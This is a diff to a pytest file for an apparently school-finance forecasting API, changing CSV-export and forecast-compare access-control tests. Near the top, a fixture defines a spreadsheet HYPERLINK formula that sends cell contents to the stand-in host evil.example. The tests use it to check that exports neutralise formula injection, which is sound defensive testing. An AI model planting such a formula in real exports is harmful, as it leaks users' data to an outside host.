@@ -20,7 +20,7 @@ import re
 import pytest
 
 from conftest import (CONF, Daemon, DIR, MAX_BUDGET_BODY, audit_max, config_text, error_fields, expect,
-                      free_port, problem, sql, sql_rows, sql_value, unchanged)
+                      free_port, problem, publish_run, sql, sql_rows, sql_value, unchanged)
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -172,7 +172,7 @@ def test_csv_exports_neutralise_formulas(stored_formulas, api, first_urn):
         rows = csv_rows(exports["forecast"])
         assert sum(1 for row in rows if row[1] == "'" + EVIL) >= 10
         # money is still a number, negative amounts too (-12.34 is no formula to neutralise)
-        amounts = [row[7] for row in rows[1:]]
+        amounts = [row[8] for row in rows[1:]] + [row[7] for row in rows[1:] if row[7] != ""]
         assert all(NUMBER.fullmatch(a) for a in amounts), amounts
     finally:
         assert d.stop() == 0
@@ -235,20 +235,24 @@ def test_the_token_list_is_for_the_finance_director_and_auditors(api, make_token
 def test_compare_applies_each_runs_visibility(api, first_urn):
     mine = expect(api.post("/api/v1/forecasts", role="finance_director",
                            json={"scenario": scenario_id("expected"), "entities": [first_urn], "horizon": 1}), 201)
+    mine2 = expect(api.post("/api/v1/forecasts", role="finance_director",
+                            json={"scenario": scenario_id("cautious"), "entities": [first_urn], "horizon": 1}), 201)
     other = next(u for u in sql_rows("SELECT urn FROM schools WHERE kind = 'school' ORDER BY urn")[1:])[0]
     theirs = expect(api.post("/api/v1/forecasts", role="finance_director",
                              json={"scenario": scenario_id("expected"), "entities": [other], "horizon": 1}), 201)
+    for run in (mine, mine2, theirs):
+        publish_run(api, run["id"])
     problem(api.get(f"/api/v1/forecasts/{theirs['id']}", role="business_manager"), 403, "forbidden")
-    for a, b in ((mine, theirs), (theirs, mine), (theirs, theirs)):
-        r = api.get("/api/v1/forecasts/compare", role="business_manager", params={"a": a["id"], "b": b["id"]})
+    for a, b in ((mine, theirs), (theirs, mine), (mine2, theirs)):
+        r = api.get("/api/v1/forecasts/compare", role="business_manager", params={"runs": f"{a['id']},{b['id']}"})
         p = problem(r, 403, "forbidden")
         assert f"forecast run {theirs['id']}" in p["detail"]
         assert theirs["digest"] not in r.text
     c = expect(api.get("/api/v1/forecasts/compare", role="business_manager",
-                       params={"a": mine["id"], "b": mine["id"]}), 200)
+                       params={"runs": f"{mine['id']},{mine2['id']}"}), 200)
     assert {i["entity"] for i in c["items"]} == {first_urn}
     # the trust-wide roles still compare anything
-    expect(api.get("/api/v1/forecasts/compare", role="auditor", params={"a": mine["id"], "b": theirs["id"]}), 200)
+    expect(api.get("/api/v1/forecasts/compare", role="auditor", params={"runs": f"{mine['id']},{theirs['id']}"}), 200)
 
 
 # ---- 12: numbers as JSON writes them; a PUT carries every field ----
